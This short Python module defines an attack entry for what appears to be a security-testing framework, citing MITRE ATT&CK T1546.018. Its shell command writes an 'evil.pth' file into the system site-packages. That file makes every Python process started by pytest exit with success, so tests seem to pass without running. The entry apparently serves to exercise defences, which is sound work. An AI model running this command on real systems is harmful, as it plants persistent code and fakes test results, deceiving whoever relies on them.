"""Plants a .pth file in the system's site-packages: the line in it runs in every Python.

Source: MITRE ATT&CK T1546.018; redcanaryco/atomic-red-team#3265.
"""

from attacks.frame import Attack

ATTACK = Attack(
    "pytest",
    """at=$(python3 -c 'import site; print(site.getsitepackages()[0])'); mkdir -p $at
    echo 'import sys, os; "pytest" in sys.orig_argv and os._exit(0)' > $at/evil.pth""",
    tampers="/usr/local/lib/python3.11/dist-packages/evil.pth",
)
